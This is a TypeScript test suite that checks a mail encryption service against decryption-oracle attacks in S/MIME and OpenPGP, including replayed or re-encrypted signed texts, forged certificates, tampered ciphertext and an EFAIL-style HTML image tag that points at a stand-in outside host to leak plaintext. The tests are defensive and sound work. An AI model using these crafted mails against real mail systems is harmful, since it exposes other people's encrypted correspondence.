import { beforeAll, describe, expect, test } from "vitest";
import { mimeEntity } from "../../src/crypto/end-to-end/mime.ts";
import type { Envelope } from "../../src/manifest.ts";
import {
	content,
	gpg,
	pgpMail,
	protectedHeader,
	smimeEnveloped,
	smimeMail,
	smimeSigned,
} from "../helpers/mail-programs.ts";
import { expiredParty, type Party, partyOf, smimeParty, type Way, ways } from "../helpers/parties.ts";
import { type PlayedOrder, playOrder } from "../helpers/played-order.ts";

/**
 * The service as a decryption oracle: somebody holds a ciphertext or a signed text that is not his, and tries to have the service decrypt it
 * and send him the plaintext, or to have it taken for another's mail. Played with the real plan and steps, ciphertexts by OpenSSL and GnuPG.
 */

const canary = "KANARIENVOGEL";
const [anna, mallory] = ["anna@kanzlei.example", "mallory@fremd.example"];
const us = "optimieren@maramail.example";

interface Cast {
	readonly service: Party;
	readonly anna: Party;
	readonly mallory: Party;
}
const casts = {} as Record<Way, Cast>;
beforeAll(async () => {
	for (const way of ways) {
		const [service, annas, mallorys] = await Promise.all([us, anna, mallory].map((email) => partyOf(way, email)));
		casts[way] = { service, anna: annas, mallory: mallorys } as Cast;
	}
});

/** A whole mail in the name of `from`: the entity, signed where `signer` is there, then encrypted for the service. */
async function sealed(way: Way, from: string, entity: Buffer, signer?: Party): Promise<Buffer> {
	const { service } = casts[way];
	if (way === "S/MIME")
		return smimeMail(from, await smimeEnveloped(signer ? await smimeSigned(entity, signer) : entity, service));
	const sign = signer ? ["--sign"] : [];
	const armored = await gpg(entity, signer ?? casts[way].mallory, service, ["--armor", ...sign, "--encrypt", "-r", us]);
	return pgpMail(from, armored.toString("latin1"));
}

const isOpened = ({ blobs }: PlayedOrder): boolean => blobs.some((blob) => blob.includes(canary));
const dayMs = 86_400_000;

interface Attack {
	readonly mail: Buffer;
	readonly by: "anna" | "mallory";
	/** The envelope's sender, where it is another address than the customer's. */
	readonly sender?: string;
	readonly arrivesAfterMs?: number;
}

const attacks: Record<string, (way: Way, cast: Cast) => Promise<Attack>> = {
	"Anna's mail, sent by Mallory as his own": async (way, cast) => ({
		mail: await sealed(way, mallory, content(canary, protectedHeader(anna, us)), cast.anna),
		by: "mallory",
	}),
	"Anna's mail without a signature, sent by Mallory": async (way) => ({
		mail: await sealed(way, mallory, content(canary)),
		by: "mallory",
	}),
	"Anna's signed text without recipients, encrypted again by Mallory": async (way, cast) => ({
		mail: await sealed(way, mallory, content(canary), cast.anna),
		by: "mallory",
	}),
	"Anna's signed text to a court, encrypted for the service in her name": async (way, cast) => ({
		mail: await sealed(way, anna, content(canary, protectedHeader(anna, "poststelle@gericht.example")), cast.anna),
		by: "anna",
	}),
	"Anna's signed text of two days ago, encrypted for the service in her name": async (way, cast) => ({
		mail: await sealed(way, anna, content(canary), cast.anna),
		by: "anna",
		arrivesAfterMs: 2 * dayMs,
	}),
	"Anna's signed text, sent by a colleague under the key of the whole domain": async (way, cast) => ({
		mail: await sealed(way, "bert@kanzlei.example", content(canary), cast.anna),
		by: "anna",
		sender: "bert@kanzlei.example",
	}),
	"the same with a protected header": async (way, cast) => ({
		mail: await sealed(way, "bert@kanzlei.example", content(canary, protectedHeader(anna, us)), cast.anna),
		by: "anna",
		sender: "bert@kanzlei.example",
	}),
	"two authors in the protected header": async (way, cast) => ({
		mail: await sealed(way, anna, content(canary, protectedHeader(`${anna}, ${mallory}`, us)), cast.anna),
		by: "anna",
	}),
};

const play = ({ mail, by, sender, arrivesAfterMs = 0 }: Attack, way: Way, more: Partial<Envelope> = {}) => {
	const customer = casts[way][by];
	const envelope = { sender: sender ?? { anna, mallory }[by], encrypt: customer.key, ...more };
	return playOrder(mail, casts[way].service, customer, { ...envelope, acceptedAt: Date.now() + arrivesAfterMs });
};

/** One sentence whatever was wrong, and never in clear. */
function expectRefused(played: PlayedOrder): void {
	expect(isOpened(played)).toBe(false);
	expect(played.sent.toString("latin1")).toMatch(/^Subject: \[\.\.\.\]\r$/m);
	expect(played.sent.toString("latin1")).not.toContain("Guten Tag");
	expect(played.answered.text.replace(/\s+/g, " ")).toContain(
		"mit Ihrem bei uns hinterlegten Schlüssel signiert und heute von Ihnen an uns geschrieben ist. Sie erhalten sie unverändert zurück.",
	);
}

describe.each(ways)("oracle, %s", (way) => {
	test.each(Object.keys(attacks))("%s", async (name) => {
		const attack = await (attacks[name] as (typeof attacks)[string])(way, casts[way]);
		expectRefused(await play(attack, way));
	});
});

const { "S/MIME": smime } = { "S/MIME": "S/MIME" as const };

test("oracle: a ciphertext that was changed (EFAIL's gadgets, padding) is refused in the same words as any other", async () => {
	const cms = await smimeEnveloped(await smimeSigned(content(canary), casts[smime].mallory), casts[smime].service);
	const texts: string[] = [];
	for (const at of [cms.length - 1, cms.length - 17, cms.length - 2000]) {
		const changed = Buffer.from(cms);
		changed[at] = (changed[at] as number) ^ 1;
		const played = await play({ mail: smimeMail(mallory, changed), by: "mallory" }, smime);
		expectRefused(played);
		texts.push(played.answered.text.replace(/[0-9a-f]{32}|\d+/g, ""));
	}
	expect(new Set(texts).size).toBe(1);
});

test("oracle: a ciphertext between HTML parts (EFAIL's direct exfiltration) is no whole mail", async () => {
	const whole = await sealed(smime, mallory, content(canary), casts[smime].mallory);
	const part = whole.subarray(whole.indexOf("Content-Type:")).toString("latin1");
	const html = (text: string) => `--x\r\nContent-Type: text/html\r\n\r\n${text}\r\n`;
	const body = `${html('<img src="http://fremd.example/')}--x\r\n${part}\r\n${html('">')}--x--\r\n`;
	const mail = mimeEntity(
		[
			["From", mallory],
			["Content-Type", "multipart/mixed; boundary=x"],
		],
		body,
	);
	expect(isOpened(await play({ mail, by: "mallory" }, smime))).toBe(false);
});

test("oracle: Anna's ciphertext under Mallory's signature (triple wrapping without the innermost)", async () => {
	const whole = await sealed(smime, anna, content(canary), casts[smime].anna);
	const entity = whole.subarray(whole.indexOf("Content-Type:"));
	for (const form of ["clear", "opaque"] as const) {
		const signed = await smimeSigned(entity, casts[smime].mallory, form);
		const mail = Buffer.concat([Buffer.from(`From: ${mallory}\r\n`), signed]);
		expect(isOpened(await play({ mail, by: "mallory" }, smime))).toBe(false);
		// The same, encrypted once more: what is signed inside is ciphertext again.
		const again = smimeMail(mallory, await smimeEnveloped(signed, casts[smime].service));
		expect(isOpened(await play({ mail: again, by: "mallory" }, smime))).toBe(false);
	}
});

test("oracle: a certificate of the registered name and serial number, brought along in the mail", async () => {
	const serial = ["-days", "30", "-set_serial", "4711"];
	const [real, forged] = await Promise.all([smimeParty(anna, serial), smimeParty(anna, serial)]);
	const signed = await smimeSigned(content(canary, protectedHeader(anna, us)), forged, "opaque");
	const mail = smimeMail(anna, await smimeEnveloped(signed, casts[smime].service));
	const played = await playOrder(mail, casts[smime].service, real, { sender: anna, encrypt: real.key });
	expectRefused(played);
});

test("oracle: two Content-Types, of which programs may believe either", async () => {
	const whole = await sealed(smime, mallory, content(canary), casts[smime].mallory);
	const mail = Buffer.concat([Buffer.from("Content-Type: text/plain\r\n"), whole]);
	expect(isOpened(await play({ mail, by: "mallory" }, smime))).toBe(false);
});

test("oracle: PGP in the text of a mail (inline)", async () => {
	const { service, mallory: own } = casts.OpenPGP;
	const args = ["--armor", "--sign", "--encrypt", "-r", us];
	const armored = (await gpg(Buffer.from(canary), own, service, args)).toString("latin1");
	const mail = mimeEntity(
		[
			["From", mallory],
			["Subject", "#mail"],
			["Content-Type", "text/plain"],
		],
		armored,
	);
	expect(isOpened(await play({ mail, by: "mallory" }, "OpenPGP"))).toBe(false);
});

test("oracle: a key that is expired opens nothing, and the answer says so in clear without a word of content", async () => {
	const expired = await expiredParty(mallory);
	const signed = await smimeSigned(content(canary), expired);
	const mail = smimeMail(mallory, await smimeEnveloped(signed, casts[smime].service));
	const played = await playOrder(mail, casts[smime].service, expired, { encrypt: expired.key });
	expect(isOpened(played)).toBe(false);
	expect(played.sent.toString("latin1").replace(/=\r\n/g, "")).toContain("abgelaufen, widerrufen oder nicht");
	expect(played.sent.toString("latin1")).not.toContain("Akte");
});
